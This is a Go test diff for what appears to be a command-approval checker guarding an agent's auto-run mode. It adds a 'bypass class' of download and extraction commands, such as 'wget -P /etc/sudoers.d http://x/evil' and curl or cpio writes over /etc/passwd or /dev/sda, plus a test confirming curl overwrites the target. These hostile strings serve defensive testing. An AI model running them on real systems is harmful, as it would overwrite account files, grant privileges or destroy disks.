@@ -559,6 +559,24 @@ var bypassClasses = []bypassClass{
 			"less --pattern=x f", "less -P '?f%f' f"},
 	},
 	{
+		// curl -O saves a URL under its last path segment in
+		// --output-dir or the working directory (replacing what is
+		// there: TestSavedDownloadsConfirm), and its relative -o there;
+		// wget saves into -P DIR or the working directory (a new name
+		// beside an existing file, so a new file in /etc/sudoers.d).
+		// cpio -i extracts into -D DIR or the working directory, -p
+		// copies into its operand (GNU cpio's manual).
+		name: "downloads and extractions saved into a directory under a name the text does not spell there",
+		yolo: []string{"curl --output-dir /etc -O http://x/passwd", "curl --output-dir /etc -o passwd http://x/y",
+			"cd /etc && curl -O http://x/shadow", "curl --output-dir /dev -o sda http://x/img", "wget -P /etc/sudoers.d http://x/evil",
+			"cd /etc/sudoers.d && wget http://x/evil", "wget --directory-prefix=/etc http://x/passwd",
+			"cd / && cpio -idm < a.cpio", "cpio -idm -D / < a.cpio", "cpio -i --directory=/etc < a.cpio", "find . | cpio -pdm /etc",
+			"cd / && cpio -i etc/passwd < a.cpio"},
+		yoloAllowed: []string{"curl -O http://x/passwd", "curl --output-dir /etc http://x/passwd", "wget -P /tmp http://x/passwd",
+			"wget -P /etc -O /tmp/out http://x/passwd", "wget http://x/passwd", "cpio -idm < a.cpio", "cpio -idm -D out < a.cpio",
+			"find . | cpio -pdm /tmp/backup", "find . | cpio -o > a.cpio", "curl --output-dir dl -O http://x/a.tgz"},
+	},
+	{
 		name: "a copier's or mover's target directory and brace-made operands",
 		yolo: []string{"cp -t /etc /tmp/passwd", "cp --target-directory=/etc passwd", "install -t /etc passwd",
 			"mv --target=/tmp /usr", "mv -t /tmp /usr", "mv -vt /tmp /usr", "mv /etc/passwd{,.bak}", "mv /etc/{passwd,x}"},
@@ -971,6 +989,39 @@ func TestRemovesSourcesConfirm(t *testing.T) {
 		cancel()
 		if _, err := os.Stat(filepath.Join(tree, "d", "passwd")); err == nil {
 			t.Errorf("%q: bash left the source in place (the form proves nothing here): %s", text, out)
+		}
+	}
+}
+
+// TestSavedDownloadsConfirm runs curl -O under bash with a file:// URL
+// whose last segment is passwd: the file of that name in --output-dir, or
+// in the working directory, is replaced.
+func TestSavedDownloadsConfirm(t *testing.T) {
+	bash := requireBash(t)
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not installed: the confirmation needs it")
+	}
+	for _, form := range []string{"curl -s --output-dir etc -O U", "cd etc && curl -s -O U", "curl -s --output-dir etc -o passwd file:///dev/null"} {
+		dir := t.TempDir()
+		for _, d := range []string{"src", "etc"} {
+			if err := os.Mkdir(filepath.Join(dir, d), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.WriteFile(filepath.Join(dir, "src", "passwd"), []byte("new\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		target := filepath.Join(dir, "etc", "passwd")
+		if err := os.WriteFile(target, []byte("old account file\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		text := strings.ReplaceAll(form, " U", " file://"+filepath.Join(dir, "src", "passwd"))
+		cmd := exec.Command(bash, "-c", text)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		_ = cmd.Run()
+		if b, _ := os.ReadFile(target); string(b) == "old account file\n" {
+			t.Errorf("%q: curl left the file in place (the form proves nothing here)", text)
 		}
 	}
 }
